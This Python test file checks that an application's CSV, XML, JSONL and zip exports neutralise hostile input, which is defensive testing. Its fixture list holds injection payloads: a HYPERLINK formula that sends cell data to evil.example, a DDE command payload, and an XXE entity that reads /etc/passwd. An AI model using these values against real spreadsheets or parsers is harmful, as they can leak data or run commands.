"""What somebody wrote into an article comes out of a file as what it is: no formula where formulas run, sound XML, sound lines."""

import csv
import io
import json
import zipfile
from collections.abc import Callable
from xml.etree import ElementTree as ET

import pytest
from starlette.testclient import TestClient

from onrecord.exports.formats import FORMATS
from tests.store.made import actor, entry, said
from tests.unit.web.conftest import Room

HOSTILE = (
    "=HYPERLINK(\"http://evil.example/?x=\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "=1\n=2", "</data>]]><!--",
    "&xxe;", "a\x01b\x0bc", "\u2028", "\u202e=1+1", "\ufffe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "x\",\"=1+1",
)  # fmt: skip


@pytest.fixture
def hostile(where: str, keep: Callable[..., None], open_room: Room) -> TestClient:
    from onrecord.record.store import open_store

    store = open_store(where)
    with store.write() as session:
        numbers = [actor(session, f"Мовець {one}", side=one) for one in HOSTILE]
    store.close()
    keep(
        *(
            entry(
                f"a{n}",
                [said(f"Мовець {one}", f"{one} слово", actor=number)],
                outlet=one,
                title=one,
                url=f"https://example.org/{n}",
            )
            for n, (one, number) in enumerate(zip(HOSTILE, numbers, strict=True))
        )
    )
    return open_room(rate=0.0)


def rows(room: TestClient, query: str = "") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(room.get(f"/export/csv{query}").text.removeprefix("\ufeff"), newline="")))


def test_a_spreadsheet_runs_nothing(hostile: TestClient) -> None:
    """The plain file is byte-true, for programs; the one that is named first on the page, for spreadsheets, is guarded."""
    assert 'href="/export/csv?spreadsheet=yes"' in hostile.get("/search").text
    plain, guarded = rows(hostile), rows(hostile, "?spreadsheet=yes")
    assert len(plain) == len(guarded) == len(HOSTILE)
    assert any(value.startswith("=") for row in plain for value in row.values())
    for row in guarded:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


def test_xml_is_sound(hostile: TestClient) -> None:
    for name in ("graphml", "gexf"):
        for query in ("?", "?network=actors&"):
            answer = hostile.get(f"/export/{name}{query}")
            if answer.status_code == 200:
                assert "passwd" not in (ET.fromstring(answer.content).tag or "")
    assert hostile.get("/export/graphml").status_code == 200
    assert len(ET.fromstring(hostile.get("/search.atom?limit=100").content)) > len(HOSTILE)


def test_lines_are_sound(hostile: TestClient) -> None:
    found = [json.loads(line) for line in hostile.get("/export/jsonl").content.split(b"\n") if line]
    assert found and any("=HYPERLINK" in json.dumps(one, ensure_ascii=False) for one in found)


def test_names_inside_archives_leave_no_folder(hostile: TestClient) -> None:
    archives = 0
    for name in FORMATS:
        answer = hostile.get(f"/export/{name}")
        assert answer.status_code in (200, 400, 409, 422), (name, answer.text[:300])
        if answer.headers["content-type"] == "application/zip":
            archives += 1
            for one in zipfile.ZipFile(io.BytesIO(answer.content)).namelist():
                assert not one.startswith("/") and ".." not in one and "\\" not in one and one.isprintable(), one
    assert archives
